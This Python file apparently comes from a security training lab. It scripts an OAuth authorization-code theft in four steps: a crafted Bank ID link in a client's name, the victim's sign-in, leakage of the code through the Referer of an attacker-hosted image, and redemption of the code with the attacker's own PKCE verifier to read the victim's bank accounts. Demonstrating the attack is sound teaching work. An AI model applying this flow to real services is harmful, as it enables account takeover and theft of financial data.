"""A link in Balance's name, and a picture on Balance's page."""

from labs.chromium import BrowserStage
from labs.stage import Stage
from labs.steps import step


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link to Bank ID: Balance's name and redirect URI, and a challenge of the attacker's own."""
    # The flow is his: his `state`, so that Balance throws the answer away, and his challenge, so that the code is of
    # use.
    stage.onward = stage.link("balance", stage.callback("balance"))


@step("Alice")
def alice_follows_the_link(stage: BrowserStage) -> None:
    """Follow the link, sign in at the real Bank ID as alice, and allow. Balance throws the answer away."""
    tab = stage.lead_alice().agree().rest().tab
    advertisement = f"{stage.here.attacker}/ad.png"
    if not tab.locator(f'img[src="{advertisement}"]').count():  # this Balance has none: a link of its page leads there
        tab.evaluate("address => location.assign(address)", advertisement)
        tab.wait_for_url(advertisement)


@step("attacker")
def reads_the_referrer(stage: Stage) -> None:
    """Read the code in the `Referer` of the request for the picture, and redeem it with the own verifier."""
    stage.kept["token"] = stage.redeem_newest("balance", stage.callback("balance"))


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Ask the bank for Alice's accounts with what that bought."""
    stage.attacker.bank("GET", "/accounts", stage.kept.get("token", ""))
